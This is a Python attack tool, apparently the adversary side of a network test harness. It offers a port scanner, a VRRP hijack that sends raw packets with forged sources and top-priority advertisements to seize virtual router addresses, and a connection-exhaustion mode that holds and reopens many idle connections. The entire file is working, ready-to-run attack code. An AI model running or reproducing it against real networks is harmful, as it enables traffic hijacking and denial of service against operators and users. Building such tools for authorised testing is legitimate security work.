"""What a stranger sends who reaches the scope's networks; runs outside the scope, as root.

``attack.py scan SOURCE TARGET...`` connects to each ADDRESS:PORT; prints those that answer.
``attack.py vrrp SECONDS SOURCES TARGETS VIP...`` claims virtual addresses with forged sources.
``attack.py idle SECONDS HOST:PORT COUNT SOURCE...`` holds COUNT connections from each address,
without logging in, and opens new ones for those that are closed.  SOURCE may be empty.
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
import struct
import sys
import time

VRRP = 112
FIRST_ROUTER = 51  # virtual router id of the first address; each further address has the next
TIMEOUT = 2.0  # seconds, for a host that answers


async def answers(source: str, target: str) -> bool:
    """Return whether anything comes back from a port: an open connection or a refusal."""
    address, _, port = target.rpartition(":")
    local = (source, 0) if source else None
    try:
        opening = asyncio.open_connection(address, int(port), local_addr=local)
        _, writer = await asyncio.wait_for(opening, TIMEOUT)
    except TimeoutError:
        return False
    except OSError as error:
        return isinstance(error, ConnectionError)
    writer.close()
    return True


async def scan(source: str, targets: list[str]) -> None:
    """Print the targets that answer."""
    found = await asyncio.gather(*(answers(source, target) for target in targets))
    print(*(target for target, answered in zip(targets, found) if answered))  # noqa: B905


def checksum(data: bytes) -> int:
    """Return the checksum of the internet protocols."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def advertisement(source: str, target: str, router: int, vip: str) -> bytes:
    """Return an IP packet with an advertisement of VRRP version 3, of the highest priority."""
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    head = struct.pack("!BBBBH", 0x31, router, 255, 1, 100)
    length = len(head) + 2 + 4
    pseudo = ends + struct.pack("!BBH", 0, VRRP, length)
    body = head + b"\0\0" + socket.inet_aton(vip)
    body = head + struct.pack("!H", checksum(pseudo + body)) + socket.inet_aton(vip)
    ip = struct.pack("!BBHHHBBH", 0x45, 0xC0, 20 + length, 0, 0, 255, VRRP, 0) + ends
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + body


def vrrp(seconds: float, sources: list[str], targets: list[str], vips: list[str]) -> None:
    """Send advertisements from each source to each target, and to the multicast group."""
    end = time.monotonic() + seconds
    packets = [
        (advertisement(source, target, FIRST_ROUTER + number, vip), target)
        for source in sources
        for target in [*targets, "224.0.0.18"]
        for number, vip in enumerate(vips)
    ]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        while time.monotonic() < end:
            for packet, target in packets:
                with contextlib.suppress(OSError):  # no route to the target
                    raw.sendto(packet, (target, 0))
            time.sleep(0.1)


async def hold(end: float, host: str, port: int, source: str) -> None:
    """Keep a connection open without sending anything, and open another when it is closed."""
    local = (source, 0) if source else None
    while (left := end - time.monotonic()) > 0:
        with contextlib.suppress(OSError):
            opening = asyncio.open_connection(host, port, local_addr=local)
            reader, writer = await asyncio.wait_for(opening, min(left, 5))
            with contextlib.closing(writer):
                await asyncio.wait_for(reader.read(-1), left)
        await asyncio.sleep(1)


async def idle(seconds: float, target: str, count: int, sources: list[str]) -> None:
    """Hold ``count`` connections from each source for some seconds."""
    end = time.monotonic() + seconds
    host, _, port = target.rpartition(":")
    holding = (hold(end, host, int(port), source) for source in sources for _ in range(count))
    await asyncio.gather(*holding)


def main() -> None:
    """Do what the command line says."""
    match sys.argv[1:]:
        case ["scan", source, *targets]:
            asyncio.run(scan(source, targets))
        case ["vrrp", seconds, sources, targets, *vips]:
            vrrp(float(seconds), sources.split(","), targets.split(","), vips)
        case ["idle", seconds, target, count, *sources]:
            asyncio.run(idle(float(seconds), target, int(count), sources))
        case _:
            sys.exit(__doc__)


if __name__ == "__main__":
    main()
